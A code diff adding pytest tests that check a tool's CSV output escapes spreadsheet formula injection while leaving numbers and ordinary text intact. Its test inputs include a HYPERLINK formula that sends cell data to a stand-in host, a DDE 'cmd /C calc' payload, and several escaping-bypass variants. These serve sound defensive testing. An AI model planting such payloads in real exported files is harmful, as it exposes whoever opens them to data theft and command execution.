@@ -62,6 +62,52 @@ def test_csv_acts_on_no_terminal_and_a_file_has_what_came(
         assert json.loads(cells[1]) == row[NAME]
 
 
+@pytest.mark.parametrize(
+    ("came", "written"),
+    [
+        ('=HYPERLINK("http://x.example/"&A1)', "'="),
+        ("+1+cmd|' /C calc'!A0", "'+"),
+        ("-Nobody", "'-"),
+        ("@SUM(A1:A9)", "'@"),
+        ("\t=1", "'\t'="),
+        ("\rx", "'\rx"),
+        ("\0=1", "'\0"),
+        ("\uff1d1+1", "'\uff1d"),
+        (" =1+1", " '="),
+        # A spreadsheet that wants semicolons pays no heed to quotes within a line.
+        ("Ada;=1+1", "Ada;'="),
+        ("Ada\n=1+1", "Ada\n'="),
+        ("Ada\t +x()", "Ada\t '+"),
+    ],
+)
+def test_no_name_is_a_formula_in_a_spreadsheet(
+    came: str, written: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """It came as it was, and callers write their names themselves."""
+    show_rows([{"name": came, came: 1}], shown("csv"))
+    head, cells = csv.reader(io.StringIO(capsys.readouterr().out, newline=""))
+    assert cells[0].startswith(written)
+    assert cells[0].replace("'", "") == came.replace("'", "")
+    assert head[1] == cells[0]
+
+
+@pytest.mark.parametrize(
+    "came",
+    [
+        "+4915112345678", "+49 (151) 123-45", "-5", "-", "*97", "1+1=2", "a@b.example",
+        "Jean-Luc", "Ada; -5", "", "O'Hara = Mr", -5, -1.5, {"x": [-1, "=1", "a;b"]},
+    ],
+)  # fmt: skip
+def test_numbers_and_other_texts_stay_as_they_are_in_csv(
+    came: Any, capsys: pytest.CaptureFixture[str]
+) -> None:
+    show_rows([{"a": came, "b": 1}], shown("csv"))
+    _, (text, _) = csv.reader(io.StringIO(capsys.readouterr().out))
+    assert (json.loads(text) if isinstance(came, dict) else text) == (
+        came if isinstance(came, dict) else str(came)
+    )
+
+
 def test_a_column_that_comes_late_is_told_without_acting(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
